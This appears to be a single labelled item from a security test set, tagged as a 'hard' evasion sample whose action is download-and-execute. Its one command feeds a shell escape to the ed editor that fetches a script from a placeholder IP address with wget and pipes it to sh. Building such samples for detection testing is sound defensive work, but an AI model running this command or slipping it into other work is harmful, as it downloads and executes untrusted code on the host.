# evasion: the line editor ed runs a shell escape fed on its stdin
# grade: hard; does: download-exec
printf '%s\n' '!wget -qO- http://198.51.100.14/i.sh | sh' q | ed -s
